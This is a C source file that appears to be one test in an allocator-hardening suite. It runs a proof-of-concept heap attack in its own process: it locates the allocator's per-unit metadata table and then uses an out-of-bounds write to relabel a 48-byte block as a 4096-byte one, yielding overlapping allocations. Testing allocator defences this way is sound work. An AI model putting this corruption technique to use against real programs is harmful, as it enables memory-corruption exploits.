/* The allocator's own table, reached by a constant distance from a block. The attacker has a write at a distance
   of his choice from one block of 48 bytes (an index that nobody checks). At home, in a process of his own, he
   has learned at what distance the table's word about that block's unit lies, and what the word is for blocks
   of 4096 bytes. Here, at other addresses, he writes that word there, and has the block freed: malloc of 4096
   bytes returns it, and 85 live blocks of 48 bytes with it.

   How he learns it: a table of words, one a unit of 64 KiB, has one value at the places of all units that hold
   blocks of 48 bytes, and another one at the places of those with blocks of 4096. He looks for the places in
   all memory that can be written. An allocator without such a table is not attacked this way. */
#define OWN_MAIN
#include "attack.h"

enum { SMALL = 48, LARGE = 4096, SMALLS = 20000, LARGES = 500 };

static char *smalls[SMALLS];
static char *larges[LARGES];

static char *victim_among_smalls(void)
{
    for (int i = 0; i < SMALLS; i++)
        smalls[i] = malloc(SMALL);
    for (int i = 100; i < SMALLS; i++)
        if (((uintptr_t)smalls[i] & 0xffff) == 0)
            return smalls[i];
    return NULL;
}

/* The units of so many blocks, each once; their number. */
static int units_of(char **blocks, int count, uintptr_t *units)
{
    int n = 0;
    for (int i = 0; i < count; i++) {
        uintptr_t unit = (uintptr_t)blocks[i] >> 16;
        bool known = false;
        for (int j = 0; j < n; j++)
            known |= units[j] == unit;
        if (!known && n < 512)
            units[n++] = unit;
    }
    return n;
}

/* Whether the words at the units' places, counted from the word of `origin`, are all alike; the word. */
static uint32_t alike(const uint32_t *at, const uint32_t *begin, const uint32_t *end, uintptr_t origin, const uintptr_t *units, int n)
{
    uint32_t word = 0;
    for (int i = 0; i < n; i++) {
        intptr_t distance = (intptr_t)(units[i] - origin);
        if (distance < begin - at || distance >= end - at || at[distance] == 0 || (i > 0 && at[distance] != word))
            return 0;
        word = at[distance];
    }
    return word;
}

static int learn(void)
{
    static uintptr_t of_smalls[512], of_larges[512];
    char *victim = victim_among_smalls();
    if (victim == NULL)
        return 1;
    for (int i = 0; i < LARGES; i++)
        larges[i] = malloc(LARGE);
    int n = units_of(smalls, SMALLS, of_smalls), m = units_of(larges, LARGES, of_larges);
    uintptr_t origin = (uintptr_t)victim >> 16;
    FILE *maps = fopen("/proc/self/maps", "r");
    char line[512];
    while (maps != NULL && fgets(line, sizeof line, maps) != NULL) {
        unsigned long from, to;
        if (sscanf(line, "%lx-%lx rw", &from, &to) != 2 || strstr(line, " rw-p ") == NULL || strchr(line, '/') != NULL)
            continue;
        /* Larger ones are reserved and not in use. */
        if (to - from > 1ul << 30)
            continue;
        const uint32_t *begin = (const uint32_t *)from, *end = (const uint32_t *)to;
        for (const uint32_t *at = begin; at < end; at++) {
            if (*at == 0)
                continue;
            uint32_t small = alike(at, begin, end, origin, of_smalls, n);
            uint32_t large = small == 0 ? 0 : alike(at, begin, end, origin, of_larges, m);
            if (large != 0 && large != small) {
                printf("%ld %u\n", (long)((char *)at - victim), large);
                return 0;
            }
        }
    }
    return 1;
}

static int attack(long distance, uint32_t word)
{
    char *victim = victim_among_smalls();
    if (victim == NULL)
        return 11;
    *(volatile uint32_t *)hide(victim + distance) = word;
    free(victim);
    return obtains(victim, LARGE, 1000) ? 10 : 11;
}

int main(int argc, char **argv)
{
    if (argc == 2)
        return learn();
    if (argc == 3)
        _exit(attack(atol(argv[1]), (uint32_t)strtoul(argv[2], NULL, 0)));
    char command[128], distance[40] = "", word[40] = "";
    snprintf(command, sizeof command, "/proc/%d/exe learn", getpid());
    FILE *learned = popen(command, "r");
    if (learned == NULL || fscanf(learned, "%39s %39s", distance, word) != 2)
        return verdict(false, "no such table was found");
    pclose(learned);
    int succeeded = 0, stopped = 0;
    for (int i = 0; i < RUNS; i++) {
        pid_t child = fork();
        if (child == 0) {
            execl("/proc/self/exe", argv[0], distance, word, (char *)NULL);
            _exit(12);
        }
        int status = 0;
        waitpid(child, &status, 0);
        succeeded += WIFEXITED(status) && WEXITSTATUS(status) == 10;
        stopped += WIFSIGNALED(status);
    }
    char text[100];
    snprintf(text, sizeof text, "%d of %d tries, at a distance of %s; %d ended by a signal", succeeded, RUNS, distance, stopped);
    return verdict(succeeded * 4 >= RUNS, text);
}
